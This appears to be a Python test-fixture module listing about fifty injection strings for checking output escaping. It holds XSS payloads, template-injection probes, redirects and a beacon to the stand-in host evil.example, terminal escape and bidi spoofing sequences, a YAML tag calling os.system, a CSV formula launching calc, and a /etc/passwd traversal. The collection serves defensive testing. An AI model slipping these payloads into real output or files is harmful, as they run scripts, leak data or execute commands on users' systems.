"""Fifty strings that act where they are not made inert: HTML, Markdown, terminal, YAML front matter, CSV, paths."""

HTML = (
    "<script>alert(1)</script>",
    "</pre><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</title><img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "'><iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>",
    '" onmouseover="alert(1)',
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<base href=http://evil.example/>",
    "<form action=http://evil.example><input name=q autofocus onfocus=alert(1)>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "{{ 7 * 7 }}{% for x in [].__class__ %}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<plaintext><textarea>",
)
MARKDOWN = (
    "[click](javascript:alert(1))",
    "![x](http://evil.example/beacon.png)",
    "[x]: http://evil.example",
    "<http://evil.example>",
    "http://evil.example/ and www.evil.example",
    "| a | b |\n|---|---|\n| c | d |",
    "# A heading",
    "- a list",
    "1. a list",
    "```\ncode\n```",
    "*bold* _italic_ ~~gone~~ `code`",
    "> quoted",
    "\n\n---\n\nanother section",
    "\\| \\[x\\](y)",
)
TERMINAL = (
    "\x1b[2J\x1b[H",
    "\x1b]0;title\x07",
    "\x1b]8;;http://evil.example\x07click\x1b]8;;\x07",
    "\x9b31mred",
    "a\rb",
    "a\x08\x08b",
    "\u202egnp.exe",
    "\u2066hidden\u2069",
    "\U000e0041\U000e0042hidden tag",
)
YAML = (
    "---\nlicense: mit\n---",
    "x: !!python/object/apply:os.system ['id']",
    "*alias &anchor",
    "a\nconfigs: [{data_files: /etc/passwd}]",
    "'\" : # no",
)
OTHER = ("=cmd|' /C calc'!A0", "../../../etc/passwd")

PAYLOADS = (*HTML, *MARKDOWN, *TERMINAL, *YAML, *OTHER)
